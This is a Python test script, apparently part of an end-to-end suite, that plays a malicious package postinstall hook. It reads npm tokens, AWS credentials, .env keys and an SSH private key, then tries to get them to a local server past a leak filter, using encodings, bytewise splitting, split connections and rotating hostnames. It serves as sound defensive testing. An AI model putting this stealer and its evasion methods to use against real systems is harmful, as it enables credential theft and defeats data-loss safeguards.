#!/usr/bin/env python3
# attack.py - a postinstall-style script for t/e2e/270-known-secrets.sh: reads
# the usual credential files of $HOME and ./.env and sends each secret
# encoded (reversed, XOR'd, UTF-16, base64 at each alignment), split over
# many small requests and over two connections, and the SSH key body only,
# to http://127.0.0.1:PORT. Prints "NAME:HOW sent|blocked" per attempt.
# usage: attack.py PORT [all|enc|split] [HOSTFMT]
# HOSTFMT ("%s.allowed.test"): each split attack goes to its own name, so
# that a host refused for one secret does not hide the next attack.
import base64
import http.client
import os
import sys
import urllib.parse

PORT = int(sys.argv[1])
HOME = os.environ["HOME"]
HOSTFMT = sys.argv[3] if len(sys.argv) > 3 else "127.0.0.1"


def host(tag):
    return HOSTFMT % tag if "%s" in HOSTFMT else HOSTFMT


def secrets():
    s = {}
    for line in open(HOME + "/.npmrc"):
        k, _, v = line.strip().partition("=")
        if k.endswith(":_authToken"):
            s["npmrc-" + k.split("/")[2]] = v.strip('"').encode()
    for line in open(HOME + "/.aws/credentials"):
        if "=" in line:
            k, v = [x.strip() for x in line.split("=", 1)]
            s["aws-" + k] = v.encode()
    for line in open(".env"):
        k, _, v = line.strip().partition("=")
        if k.endswith("_KEY") or k.endswith("_TOKEN"):
            s["env-" + k] = v.encode()
    return s


def key_body():
    key = open(HOME + "/.ssh/id_ed25519").read().splitlines()
    return [l for l in key if not l.startswith("-----")]


def send(method, path, body=None, conn=None, to="127.0.0.1"):
    try:
        c = conn or http.client.HTTPConnection(to, PORT, timeout=10)
        c.request(method, path, body=body, headers={"Content-Type": "application/octet-stream"})
        c.getresponse().read()
        if conn is None:
            c.close()
        return True
    except (OSError, http.client.HTTPException):
        if conn is not None:
            conn.close()   # a refused send leaves it mid-request: reconnect
        return False


def report(name, how, ok):
    print("%s:%s %s" % (name, how, "sent" if ok else "blocked"), flush=True)


def encodings(v):
    yield "reversed", v[::-1]
    yield "xor5a", bytes(b ^ 0x5A for b in v)
    yield "utf16le", v.decode().encode("utf-16-le")
    yield "utf16be", v.decode().encode("utf-16-be")
    for o in range(3):
        yield "base64+%d" % o, base64.b64encode(b"\x01\x02"[:o] + v)


def main():
    mode = sys.argv[2] if len(sys.argv) > 2 else "all"
    for n, (name, v) in enumerate(secrets().items()):
        if mode in ("all", "enc"):
            for how, data in encodings(v):
                report(name, how, send("POST", "/p", data))
        if mode in ("all", "split"):
            # one byte per request, with a changing nonce beside it
            sent = 0
            for i, b in enumerate(v):
                q = urllib.parse.quote(bytes([b]))
                if send("GET", "/c?n=%d&d=%s" % (i * 7919, q), to=host("b%d" % n)):
                    sent += 1
            report(name, "bytewise(%d/%d)" % (sent, len(v)), sent == len(v))
            # over two connections, alternating quarters (each too short
            # to be refused on its own)
            a = http.client.HTTPConnection(host("h%d" % n), PORT, timeout=10)
            b = http.client.HTTPConnection(host("h%d" % n), PORT, timeout=10)
            q = (len(v) + 3) // 4
            ok = True
            for i in range(4):
                ok = send("POST", "/h%d" % (i % 2 + 1), v[i * q:(i + 1) * q], (a, b)[i % 2]) and ok
            report(name, "two-connections", ok)
    if mode in ("all", "enc"):
        lines = key_body()
        report("ssh-key", "body-joined", send("POST", "/k", "".join(lines).encode()))
        report("ssh-key", "body-lines", send("POST", "/k", "\n".join(lines).encode()))


main()
